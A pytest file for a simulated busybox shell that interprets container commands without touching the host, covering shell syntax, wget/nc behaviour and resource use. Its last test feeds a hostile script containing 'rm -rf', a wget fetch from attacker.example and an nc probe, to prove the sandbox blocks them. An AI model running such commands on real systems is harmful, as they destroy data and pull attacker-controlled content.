"""The busybox model interprets the parity fixtures' commands as busybox 1.36 runs them, never on the host."""

from __future__ import annotations

import math
import os
import socket
import subprocess
from pathlib import Path

import pytest

from pytest_simian.sim import busybox as bb
from pytest_simian.sim.busybox import (
    Allocate,
    Busy,
    Connect,
    ConnectResult,
    Exit,
    Output,
    ReadFile,
    Sleep,
    Unmodelled,
    run_argv,
    run_script,
    run_to_end,
)


def outputs(actions: list[bb.Action], stream: str | None = None) -> str:
    return "".join(a.text for a in actions if isinstance(a, Output) and (stream is None or a.stream == stream))


def final(actions: list[bb.Action]) -> bb.Action:
    return actions[-1]


def run(script: str, **kw: object) -> tuple[list[bb.Action], float]:
    return run_to_end(run_script(script), **kw)  # type: ignore[arg-type]


# --------------------------------------------------------------------------- the parity fixtures
def test_crashloop_fixture_command() -> None:
    acts, t = run("echo 'connecting to payments db'; sleep 2; echo 'FATAL: connection refused' >&2; exit 1")
    assert acts == [Output("stdout", "connecting to payments db\n"), Sleep(2.0),
                    Output("stderr", "FATAL: connection refused\n"), Exit(1)]
    assert t == 2.0


def test_sessions_fixture_command() -> None:
    acts, _ = run("echo 'binding :6379'; sleep 2; echo 'FATAL: cannot open append-only file' >&2; exit 1")
    assert outputs(acts, "stdout") == "binding :6379\n"
    assert outputs(acts, "stderr") == "FATAL: cannot open append-only file\n"
    assert final(acts) == Exit(1)


@pytest.mark.parametrize("script,out,err,code", [
    ("echo 'building nightly report'; sleep 1; echo 'ERROR: source table missing' >&2; exit 2",
     "building nightly report\n", "ERROR: source table missing\n", 2),
    ("echo 'starting'; sleep 1; echo 'ERROR: upstream feed unavailable' >&2; exit 2",
     "starting\n", "ERROR: upstream feed unavailable\n", 2),
])
def test_failing_job_commands(script: str, out: str, err: str, code: int) -> None:
    acts, t = run(script)
    assert outputs(acts, "stdout") == out
    assert outputs(acts, "stderr") == err
    assert final(acts) == Exit(code)
    assert t == 1.0


def test_oomkill_fixture_allocates_the_stream_in_tail() -> None:
    acts, _ = run("echo 'warming cache'; head -c 400000000 /dev/zero | tail -n 1; sleep 3600")
    assert acts[0] == Output("stdout", "warming cache\n")
    assert acts[1] == Allocate(400_000_000)


def test_sleep_3600_blocks_for_an_hour() -> None:
    prog = run_script("sleep 3600")
    assert next(prog) == Sleep(3600.0)
    assert prog.send(None) == Exit(0)


def test_invoicing_loop_logs_the_refused_connection_and_keeps_going() -> None:
    script = ("echo 'invoice-reconciler starting; reconcile interval 2s'; i=0; while true; do i=$((i+1)); "
              "echo \"reconcile attempt $i\"; wget -q -T 3 -O /dev/null http://127.0.0.1:5432/healthz || true; "
              "sleep 2; done")
    prog = run_script(script)
    seen: list[bb.Action] = []
    send: object = None
    while len([a for a in seen if isinstance(a, Sleep)]) < 3:
        act = prog.send(send)
        send = None
        seen.append(act)
        if isinstance(act, Connect):
            assert (act.host, act.port, act.kind, act.timeout, act.path) == ("127.0.0.1", 5432, "wget", 3.0, "/healthz")
            send = ConnectResult("refused", "127.0.0.1")
    assert outputs(seen, "stdout").splitlines() == [
        "invoice-reconciler starting; reconcile interval 2s", "reconcile attempt 1", "reconcile attempt 2",
        "reconcile attempt 3"]
    assert outputs(seen, "stderr").splitlines() == [
        "wget: can't connect to remote host (127.0.0.1): Connection refused"] * 3
    assert not any(isinstance(a, Exit) for a in seen)


# --------------------------------------------------------------------------- shell language
@pytest.mark.parametrize("script,expected", [
    ("echo a b  c", "a b c\n"),
    ("echo 'a  b'", "a  b\n"),
    ('X=hi; echo "$X there" $X', "hi there hi\n"),
    ("echo -n x; echo y", "xy\n"),
    ("echo 'a\\nb'", "a\\nb\n"),
    ("echo -e 'a\\tb'", "a\tb\n"),
    ("printf '%s=%d\\n' a 1 b 2", "a=1\nb=2\n"),
    ("printf '%05.1f|%-3s|\\n' 3.14159 x", "003.1|x  |\n"),
    ("false; echo $?", "1\n"),
    ("true && echo yes || echo no", "yes\n"),
    ("false && echo yes || echo no", "no\n"),
    ("if [ 3 -gt 2 ]; then echo big; else echo small; fi", "big\n"),
    ("if false; then echo a; elif test -z ''; then echo b; fi", "b\n"),
    ("for x in 1 2 3; do echo $x; done", "1\n2\n3\n"),
    ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i", "3\n"),
    ("i=0; until [ $i -ge 2 ]; do i=$((i + 1)); echo $i; done", "1\n2\n"),
    ("for x in a b c; do if [ $x = b ]; then break; fi; echo $x; done", "a\n"),
    ("for x in a b c; do [ $x = b ] && continue; echo $x; done", "a\nc\n"),
    ("echo ${UNSET:-default} ${UNSET-x}", "default x\n"),
    ("A=abc; echo ${#A}", "3\n"),
    ("echo $(echo inner) `echo back`", "inner back\n"),
    ("echo $((7 / 2)) $((7 % 3)) $((2 * (3 + 4)))", "3 1 14\n"),
    ("echo hidden > /dev/null; echo shown", "shown\n"),
    ("echo one; # a comment\necho two", "one\ntwo\n"),
    ("{ echo a; echo b; } | tail -n 1", "b\n"),
    ("printf 'x\\ny\\nz\\n' | head -n 2", "x\ny\n"),
    ("printf 'x\\ny\\n' | wc -l", "2\n"),
    ("(exit 3); echo $?", "3\n"),
    ("echo hi > /tmp/f; cat /tmp/f", "hi\n"),
    ("hostname", "pod-1\n"),
    ("echo $HOSTNAME", "pod-1\n"),
    ("! false; echo $?", "0\n"),
    ("seq 3", "1\n2\n3\n"),
    ("trap 'echo bye' TERM; echo ok", "ok\n"),
])
def test_shell_language(script: str, expected: str) -> None:
    acts, _ = run_to_end(run_script(script, hostname="pod-1", env={"HOSTNAME": "pod-1"}))
    assert outputs(acts, "stdout") == expected, acts
    assert isinstance(final(acts), Exit)


def test_redirections_to_stderr() -> None:
    for s in ("echo x >&2", "echo x 1>&2", "echo x >/dev/stderr"):
        acts, _ = run(s)
        assert acts[0] == Output("stderr", "x\n")
    acts, _ = run("echo x 2>&1 >/dev/null")
    assert outputs(acts) == ""


def test_exit_codes_and_not_found() -> None:
    acts, _ = run("exit 7")
    assert acts == [Exit(7)]
    acts, _ = run("nosuchprog --flag")
    assert acts == [Output("stderr", "sh: nosuchprog: not found\n"), Exit(127)]
    acts, _ = run("exit 300")
    assert acts == [Exit(44)]


def test_set_e_stops_at_the_first_failure() -> None:
    acts, _ = run("set -e; echo a; false; echo b")
    assert acts == [Output("stdout", "a\n"), Exit(1)]


def test_env_from_the_container() -> None:
    acts, _ = run_to_end(run_script('echo "$GREETING, $NAME"', env={"GREETING": "hello", "NAME": "pod"}))
    assert outputs(acts) == "hello, pod\n"


def test_sleep_suffixes_and_errors() -> None:
    acts, t = run("sleep 1m; sleep 0.5; sleep 2s")
    assert t == 62.5
    acts, _ = run("sleep abc")
    assert acts == [Output("stderr", "sleep: invalid number 'abc'\n"), Exit(1)]
    prog = run_script("sleep infinity")
    assert math.isinf(next(prog).seconds)  # type: ignore[union-attr]


def test_date_uses_the_virtual_clock() -> None:
    acts, _ = run_to_end(run_script("date; date +%s; date -u +%Y-%m-%dT%H:%M:%S"), now=1_800_000_000.0)
    assert outputs(acts).splitlines() == ["Fri Jan 15 08:00:00 UTC 2027", "1800000000", "2027-01-15T08:00:00"]


def test_cat_reads_mounted_files_through_the_caller() -> None:
    acts, _ = run_to_end(run_script("cat /etc/app/config.yaml; cat /missing"),
                         files={"/etc/app/config.yaml": "key: v\n"})
    assert ReadFile("/etc/app/config.yaml") in acts
    assert outputs(acts, "stdout") == "key: v\n"
    assert outputs(acts, "stderr") == "cat: can't open '/missing': No such file or directory\n"
    assert final(acts) == Exit(1)


# --------------------------------------------------------------------------- network
def test_wget_outcomes() -> None:
    def conn(result: ConnectResult) -> str:
        acts, _ = run_to_end(run_script("wget -q -O- http://backend:8080/x"), connect=lambda a: result)
        return outputs(acts)

    assert conn(ConnectResult("ok", "10.96.0.5", body="hello")) == "hello"
    assert conn(ConnectResult("bad_address")) == "wget: bad address 'backend'\n"
    assert conn(ConnectResult("refused", "10.96.0.5")) == (
        "wget: can't connect to remote host (10.96.0.5): Connection refused\n")
    assert conn(ConnectResult("timeout", "10.96.0.5")) == "wget: download timed out\n"
    assert conn(ConnectResult("ok", "10.96.0.5", 503, "Service Unavailable")) == (
        "wget: server returned error: HTTP/1.1 503 Service Unavailable\n")


def test_wget_without_q_prints_connecting_then_the_error() -> None:
    acts, _ = run_to_end(run_script("wget http://backend/"), connect=lambda a: ConnectResult("refused", "10.96.0.9"))
    assert outputs(acts, "stderr") == ("Connecting to backend (10.96.0.9:80)\n"
                                       "wget: can't connect to remote host (10.96.0.9): Connection refused\n")
    assert final(acts) == Exit(1)


def test_wget_spider_and_timeout_flag() -> None:
    prog = run_script("wget --spider -q -T 5 http://db:5432/")
    act = next(prog)
    assert act == Connect("db", 5432, "wget", 5.0, "/", True)
    assert prog.send(ConnectResult("ok", "10.0.0.1")) == Exit(0)


def test_nc_zero_io() -> None:
    acts, _ = run_to_end(run_script("nc -z -w 2 db 5432 && echo up || echo down"),
                         connect=lambda a: ConnectResult("refused", "10.96.0.7"))
    assert Connect("db", 5432, "nc", 2.0) in acts
    assert outputs(acts) == "down\n"
    acts, _ = run_to_end(run_script("nc -z nowhere 80"), connect=lambda a: ConnectResult("bad_address"))
    assert outputs(acts) == "nc: bad address 'nowhere'\n"


# --------------------------------------------------------------------------- resources
def test_yes_to_dev_null_is_a_busy_cpu() -> None:
    acts, _ = run("yes > /dev/null")
    assert isinstance(final(acts), Busy)


def test_memory_hogs() -> None:
    acts, _ = run("head -c 1000 /dev/zero | tail")
    assert Allocate(1000) in acts and bb.Release(1000) in acts and final(acts) == Exit(0)
    acts, _ = run("dd if=/dev/zero of=/dev/shm/fill bs=1M count=100 status=none; sleep 10")
    assert Allocate(100 << 20) in acts


def test_tight_loop_without_sleep_becomes_busy() -> None:
    acts, _ = run("while true; do :; done")
    assert isinstance(final(acts), Busy)


# --------------------------------------------------------------------------- honesty about limits
@pytest.mark.parametrize("script", [
    "awk '{print $1}' /etc/passwd",
    "case x in x) echo y;; esac",
    "f() { echo hi; }; f",
    "cat <<EOF\nx\nEOF",
    "ls /etc/*",
    "echo x &",
    "wget https://example.com/",
])
def test_unmodelled_constructs_are_reported_not_guessed(script: str) -> None:
    acts, _ = run(script)
    assert isinstance(final(acts), Unmodelled), acts


def test_python_is_not_found_in_busybox_but_unmodelled_in_a_python_image() -> None:
    acts, _ = run("python -c 'print(1)'")
    assert acts == [Output("stderr", "sh: python: not found\n"), Exit(127)]
    acts, _ = run_to_end(run_script("python -c 'print(1)'", foreign=frozenset({"python"})))
    assert isinstance(final(acts), Unmodelled)


def test_plain_argv_and_kube_expansion() -> None:
    acts, _ = run_to_end(run_argv(["sleep", "5"]))
    assert acts == [Sleep(5.0), Exit(0)]
    acts, _ = run_to_end(run_argv(["/bin/sh", "-c", "echo $0 $1", "name", "arg"]))
    assert outputs(acts) == "name arg\n"
    assert bb.kube_expand("$(A)-$$(A)-$(MISSING)", {"A": "x"}) == "x-$(A)-$(MISSING)"


def test_background_sleep_and_wait() -> None:
    acts, t = run("sleep 5 & echo started; sleep 1; wait; echo done")
    assert outputs(acts) == "started\ndone\n"
    assert t == 5.0


def test_syntax_errors_exit_2() -> None:
    acts, _ = run("if true; then echo x")
    assert final(acts) == Exit(2)
    assert outputs(acts, "stderr").startswith("sh: syntax error")


# --------------------------------------------------------------------------- no command reaches the host
def test_no_manifest_command_reaches_the_host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Interpreting hostile commands must not spawn, connect, or touch the host file system."""

    def forbidden(*a: object, **k: object) -> None:
        raise AssertionError("a container command reached the host")

    for mod, names in ((subprocess, ("Popen", "run", "call", "check_call", "check_output")),
                       (os, ("system", "popen", "execv", "execve", "execvp", "fork", "spawnv", "posix_spawn",
                             "remove", "unlink", "mkdir", "makedirs", "rmdir")),
                       (socket, ("socket", "create_connection", "getaddrinfo"))):
        for n in names:
            if hasattr(mod, n):
                monkeypatch.setattr(mod, n, forbidden)
    real_open = open

    def guarded_open(file: object, mode: str = "r", *a: object, **k: object) -> object:
        if any(c in mode for c in "wax+"):
            raise AssertionError(f"write to the host file system: {file}")
        return real_open(file, mode, *a, **k)  # type: ignore[call-overload]

    monkeypatch.setattr("builtins.open", guarded_open)
    marker = tmp_path / "pwned"
    script = (f"touch {marker}; echo owned > {marker}; mkdir -p {tmp_path}/d; rm -rf {tmp_path}; "
              f"wget -q -O {marker} http://attacker.example/x; nc -z 10.0.0.1 22; "
              f"/bin/sh -c 'echo nested > {marker}2'; cat {marker}; sleep 1; exit 0")
    acts, _ = run_to_end(run_script(script), connect=lambda a: ConnectResult("refused", "10.0.0.1"))
    assert final(acts) == Exit(0)
    assert not marker.exists() and not (tmp_path / "pwned2").exists() and tmp_path.exists()
    # the writes landed in the container's own (virtual) file layer instead
    assert outputs(acts, "stdout") == "owned\n"
